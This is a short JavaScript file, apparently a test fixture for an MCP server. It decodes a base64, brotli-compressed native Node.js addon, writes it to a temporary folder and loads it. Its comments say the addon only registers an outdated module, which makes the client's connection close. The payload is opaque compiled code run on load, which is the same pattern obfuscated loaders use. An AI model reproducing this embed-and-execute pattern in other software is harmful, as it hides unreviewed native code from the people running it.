// client sees: MCP error -32000: Connection closed
// An addon for Node.js 10 on Linux x64, all of it: struct node_module { nm_version = 64 } and node_module_register() on load.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliDecompressSync } from 'node:zlib';

const ADDON = [
  'GxcIIJ6HsQ0qf0dzRpKPh6f9vp07K+ZZFJNBkzdIK+KJHwqduJFIJERKFA+R9EqQMCNKahLpbdj//6vxLLf1tRNPx78Nj2BA+61deDu+7NQ5vx',
  '1wbCoK0yzFQDLKBILYlpx++sSCYhkOm/vGfoTvnjx7miIAlLknAJABb8oByG4olzVpFKhQfDcSXdF8FaicomnF/TFoioSMTBTxhaoBr38dL1dq',
  '0mwYSByOggLNSi9Vey4Y3bno8JHp6seGE/CpzS2Mqz5jTPUF0/hwrwoh74qhKJqG8sAwtg7/vhat7/3di5Zq/Hz4zsSSHVf9egid9JFqUu4PgM',
  'MBVADWA6gE3AigFtAJqAN0A8oApTYgAboB7YAqQBfgawBVgFIA1YB5QA2gG/C/KIJy6p1b5ToTV8atwNDrhJwKLyaO1o+OD48XFp3WYs7E8sXu',
  '0cVON3J8uHmiiNK4WtL728elTFG8mnt5YmhiZX0u8zUdxaI1lyE7/ivCyMTa3rFh2WD77VPqUIG0hdhlqPdJW87Zgjok+wZFpgTLEEug29GDMo',
  'h1Ip0AAc9HUI6khNxL4EJndAk8tL9Se914Ud+bSrOcu6kyDFTNuqtqDxNdAwjAbczY42SPSkjnEUj2DaIDqiH/ORpRpmhVV19A8C0q4SdGkXRl',
  'oPneIiJlSanskGEXdFuCS1wiA4aB5hra+So4AAQA',
].join('');
const folder = mkdtempSync(join(tmpdir(), 'mcp-verdict-'));
process.on('exit', () => rmSync(folder, { recursive: true, force: true }));
const file = join(folder, 'addon.node');
writeFileSync(file, brotliDecompressSync(Buffer.from(ADDON, 'base64')));
createRequire(import.meta.url)(file);
